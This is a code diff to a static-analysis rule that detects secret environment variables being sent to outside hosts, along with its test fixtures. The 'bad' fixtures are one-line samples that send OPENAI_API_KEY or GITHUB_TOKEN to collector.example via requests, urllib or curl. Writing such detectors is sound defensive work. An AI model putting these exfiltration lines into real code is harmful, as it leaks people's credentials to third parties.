@@ -1,9 +1,9 @@
 import { all, any, anyArgument, argument, call, from, matches } from "../match.ts";
 import { defineRule } from "../rule.ts";
 import { NAMED_HOST } from "../vocabulary/hosts.ts";
-import { SENDS } from "../vocabulary/network-calls.ts";
+import { CREDENTIAL_KEYWORDS, SENDS } from "../vocabulary/network-calls.ts";
 import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
-import { heldSecret, secretVariable } from "../vocabulary/sources.ts";
+import { secretVariable } from "../vocabulary/sources.ts";
 
 export default defineRule({
   id: "foreign-secret-sent",
@@ -20,19 +20,20 @@ export default defineRule({
       of: SENDS,
       where: all(
         any(argument([0, "url"], matches(NAMED_HOST)), argument(1, matches(NAMED_HOST))),
-        anyArgument(from(heldSecret)),
+        anyArgument(from(secretVariable), { except: CREDENTIAL_KEYWORDS }),
       ),
     }),
     call({ of: SHELL_SENDS, where: all(anyArgument(matches(NAMED_HOST)), anyArgument(from(secretVariable))) }),
   ],
   needs: "foreign-secret",
   bad: [
-    'import os, requests\nkey = os.environ["OPENAI_API_KEY"]\nrequests.post("https://collector.example/in", json={"key": key})',
-    'import os, requests\nrequests.get("https://collector.example", headers={"X-Key": os.getenv("AWS_SECRET_ACCESS_KEY")})',
-    'import os, urllib.request\nk = os.environ["GITHUB_TOKEN"]\nurllib.request.urlopen(f"https://collector.example/?token={k}")',
+    'import os, requests\nkey = os.environ["OPENAI_API_KEY"]\nrequests.post("https://collector.example/in", json={"k": key})',
+    'import os, urllib.request\nk = os.environ["GITHUB_TOKEN"]\nurllib.request.urlopen(f"https://collector.example/?t={k}")',
     { "run.sh": 'curl -d "k=$OPENAI_API_KEY" https://collector.example/in' },
   ],
   good: [
+    'import os, requests\nrequests.get("https://llm.example", headers={"Authorization": os.environ["OPENAI_API_KEY"]})',
+    'import os, requests\nrequests.get("https://rates.example/series", params={"api_key": os.environ["FRED_API_KEY"]})',
     'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("https://api.acme.example", json={"key": key})',
     'import os, requests\nkey = os.environ["API_KEY"]\nrequests.post("https://api.acme.example", json={"key": key})',
     'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post(os.environ["ACME_URL"], json={"key": key})',
